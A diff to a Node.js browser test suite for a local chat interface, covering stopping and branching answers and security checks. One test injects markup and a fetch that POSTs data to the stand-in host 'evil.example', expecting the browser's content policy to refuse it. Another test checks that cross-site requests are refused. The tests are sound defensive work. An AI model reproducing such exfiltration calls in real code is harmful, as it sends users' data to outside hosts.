@@ -2,7 +2,7 @@
 import assert from "node:assert/strict";
 import {createServer} from "node:http";
 import test from "node:test";
-import {answered, ask, assertAccessible, HUB, withPage} from "./browser.mjs";
+import {answered, ask, assertAccessible, HUB, withoutEnds, withPage} from "./browser.mjs";
 
 test("a person asks, and the answer has its receipt", () => withPage(async (page) => {
   await ask(page, "How do I set up an adviser?");
@@ -26,10 +26,12 @@ test("a person asks, and the answer has its receipt", () => withPage(async (page
 
 test("a person stops an answer, asks again with another model, edits, and goes between the branches", () =>
   withPage(async (page) => {
+    const letEnd = await withoutEnds(page);
     await ask(page, "Say much.", "tiny-a");
-    await page.waitForFunction(() => document.querySelector(".assistant .said")?.textContent.length > 20);
+    await page.waitForFunction(() => document.querySelector(".assistant .said")?.textContent.length > 0);
     await page.keyboard.press("Escape");
     await page.getByText("Stopped.").waitFor();
+    await letEnd();
     await page.getByRole("button", {name: "Again with…"}).click();
     await page.keyboard.press("End");
     await page.keyboard.press("Home");
@@ -99,7 +101,7 @@ test("even markup that got into the page could not act", () => withPage(async (p
     image.src = "data:image/svg+xml,<svg/>";
     document.body.append(image);
     await fetch("https://evil.example/", {method: "POST", body: "x"}).catch(() => threw.push("fetch"));
-    while (!refused.includes("img-src")) await new Promise((done) => setTimeout(done, 5));
+    while (!refused.includes("img-src") || !refused.includes("connect-src")) await new Promise((done) => setTimeout(done, 5));
     return {threw, refused, ran: Boolean(globalThis.ran)};
   });
   assert.deepEqual(outcome.threw, ["innerHTML", "script", "handler", "fetch"]);
@@ -115,7 +117,8 @@ test("a page of another site can neither read nor act", async () => {
   try {
     await withPage(async (page) => {
       await page.goto(origin);
-      const before = await (await fetch(`${HUB}/v1/models`)).text();
+      const isLoaded = async () => (await (await fetch(`${HUB}/v1/models`)).json()).data.find(({id}) => id === "tiny-c").hearth.loaded;
+      assert.equal(await isLoaded(), false);
       const answers = await page.evaluate(async (hub) => {
         const tries = [
           ["/v1/models", {}], ["/hearth/v1/memory", {}], ["/", {}],
@@ -133,7 +136,7 @@ test("a page of another site can neither read nor act", async () => {
         return [...told, frame.contentDocument === null ? "no frame" : "frame"];
       }, HUB);
       assert.deepEqual(answers, ["refused", "refused", "refused", "refused", "opaque", "no frame"]);
-      assert.equal(await (await fetch(`${HUB}/v1/models`)).text(), before); // Nothing was loaded.
+      assert.equal(await isLoaded(), false);
     }, {expectErrors: true, allowed: [origin]});
   } finally {
     other.close();
